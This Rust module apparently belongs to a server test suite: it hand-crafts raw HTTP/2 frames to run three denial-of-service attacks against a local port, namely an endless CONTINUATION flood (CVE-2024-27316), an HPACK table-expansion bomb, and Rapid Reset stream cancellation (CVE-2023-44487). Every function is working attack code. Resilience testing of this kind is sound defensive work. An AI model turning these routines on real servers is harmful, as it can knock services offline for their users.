//! Attacks in HTTP/2, frame by frame: what no client library would send.

use tokio::io::AsyncWriteExt;

use super::http1::{connect, until_closed};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The types of frames (RFC 9113 §6).
#[derive(Debug, Clone, Copy)]
enum Type {
    Headers = 1,
    RstStream = 3,
    Settings = 4,
    Continuation = 9,
}

fn frame(kind: Type, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is short");
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend_from_slice(&[kind as u8, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

fn opening() -> Vec<u8> {
    [PREFACE, &frame(Type::Settings, 0, 0, &[])].concat()
}

/// GET of a path, as HPACK without any table (RFC 7541 §6.2.2).
fn get(path: &str) -> Vec<u8> {
    // :method GET, :scheme http by index; :authority and :path as literals.
    let mut block = vec![0x82, 0x86, 0x01, 1, b'x', 0x04];
    block.push(u8::try_from(path.len()).expect("a short path"));
    block.extend_from_slice(path.as_bytes());
    block
}

/// A field as a literal that is not indexed.
fn literal(name: u8, value: &[u8]) -> Vec<u8> {
    let mut field = vec![0x00, 1, name];
    append_length(&mut field, value.len());
    field.extend_from_slice(value);
    field
}

/// A length with a prefix of seven bits (RFC 7541 §5.1).
fn append_length(out: &mut Vec<u8>, length: usize) {
    if length < 127 {
        out.push(length as u8);
        return;
    }
    out.push(127);
    let mut rest = length - 127;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 128);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// A head that goes on in frame after frame (CVE-2024-27316 and its like).
pub(super) async fn endless_continuation(port: u16) {
    let mut stream = connect(port).await;
    let (mut reader, mut writer) = stream.split();
    let begun = frame(Type::Headers, END_STREAM, 1, &get("/"));
    let more = frame(Type::Continuation, 0, 1, &literal(b'a', &[b'b'; 15_000]));
    let sending = async {
        let mut sent = writer.write_all(&[opening(), begun].concat()).await;
        while sent.is_ok() {
            tokio::task::yield_now().await;
            sent = writer.write_all(&more).await;
        }
    };
    tokio::select! {
        () = until_closed(&mut reader) => {}
        () = sending => {}
    }
}

/// A field of 4000 bytes that stands in the table once, and 4000 times in each head: 16 MB in 8 KiB.
pub(super) async fn hpack_bomb(port: u16) {
    let mut stream = connect(port).await;
    let mut indexed = vec![0x40, 1, b'a'];
    append_length(&mut indexed, 4000);
    indexed.extend_from_slice(&[b'b'; 4000]);
    // The newest of the table is the first behind the 61 that are fixed.
    let block = [get("/"), indexed, vec![0x80 | 62; 4000]].concat();
    let mut bytes = opening();
    for stream in (1..40).step_by(2) {
        bytes.extend(frame(
            Type::Headers,
            END_STREAM | END_HEADERS,
            stream,
            &block,
        ));
    }
    let _ = stream.write_all(&bytes).await;
    let _ = stream.shutdown().await;
    until_closed(&mut stream).await;
}

/// Requests that are taken back as soon as they are made (CVE-2023-44487).
pub(super) async fn rapid_reset(port: u16) {
    let mut stream = connect(port).await;
    let (mut reader, mut writer) = stream.split();
    let sending = async {
        let mut sent = writer.write_all(&opening()).await;
        let mut number = 1;
        while sent.is_ok() {
            let mut batch = Vec::new();
            for _ in 0..50 {
                let flags = END_STREAM | END_HEADERS;
                batch.extend(frame(Type::Headers, flags, number, &get("/delay/1000")));
                let cancel = 8_u32.to_be_bytes();
                batch.extend(frame(Type::RstStream, 0, number, &cancel));
                number += 2;
            }
            tokio::task::yield_now().await;
            sent = writer.write_all(&batch).await;
        }
    };
    tokio::select! {
        () = until_closed(&mut reader) => {}
        () = sending => {}
    }
}
